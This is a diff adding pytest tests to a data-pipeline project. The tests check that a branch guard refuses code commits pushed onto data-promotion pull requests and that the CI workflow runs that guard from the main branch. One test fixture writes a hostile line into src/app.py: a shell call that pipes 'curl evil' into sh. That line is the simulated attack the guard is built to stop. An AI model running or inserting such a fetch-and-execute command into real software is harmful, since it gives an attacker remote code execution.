@@ -8,6 +8,7 @@ from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
+import yaml
 
 from wms.config import load_settings
 from wms.vcs.git import Git
@@ -194,3 +195,40 @@ def _blob(repo: Repo, content: bytes) -> str:
         return repo.out("hash-object", "-w", str(path))
     finally:
         os.remove(path)
+
+
+def test_a_code_commit_pushed_onto_a_promotion_pull_request_is_refused(
+    repo: Repo, cli: Callable[..., Any]
+) -> None:
+    data_branch(repo, "m001")
+    # The pipeline's publish: the pairs leave for the store, the pointer files take their place.
+    repo.git("rm", "-q", "-r", "data/incoming/images", "data/incoming/masks")
+    repo.write("data/dataset.json", '{"version": "3f2a9c01b7de"}\n')
+    repo.write("models/production_current.json", '{"to_version": "2"}\n')
+    repo.write("models/production_history.jsonl", '{"to_version": "2"}\n')
+    published = repo.commit("Data pointers for the promoted model")
+    # While the pull request waits for its checks with auto-merge on, a labeller pushes code onto it.
+    repo.write("src/app.py", "import os; os.system('curl evil | sh')\n")
+    pushed = repo.commit("one more thing")
+    repo.push("-q", "origin", "data/20260102-030405")
+
+    allowed = cli("vcs", "guard-branch", "--pull-request", "--sha", published)
+    assert allowed.exit_code == 0, allowed.output
+    refused = cli("vcs", "guard-branch", "--pull-request", "--sha", pushed)
+    assert refused.exit_code == 1 and "Traceback" not in refused.output
+    line = refused.stderr.replace("\n", " ")
+    assert "src/app.py (outside data/incoming/ and the pointer files)" in line
+    assert "data/dataset.json" not in line.split("; ")[0]  # the pointer files are not named as offences
+    # A data branch's own push may still not touch the pointer files.
+    assert cli("vcs", "guard-branch", "--sha", published).exit_code == 1
+
+
+def test_ci_checks_every_data_pull_request_with_mains_code() -> None:
+    ci = yaml.safe_load((Path(__file__).resolve().parents[2] / ".github/workflows/ci.yaml").read_text())
+    job = ci["jobs"]["data-pull-request"]
+    assert "pull_request" in ci[True] and "startsWith(github.head_ref, 'data/')" in job["if"]
+    checkout = job["steps"][0]
+    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
+    [guard] = [s for s in job["steps"] if "guard-branch" in s.get("run", "")]
+    assert guard["run"] == 'wms vcs guard-branch --pull-request --sha "$HEAD_SHA"'
+    assert guard["env"]["HEAD_SHA"] == "${{ github.event.pull_request.head.sha }}"
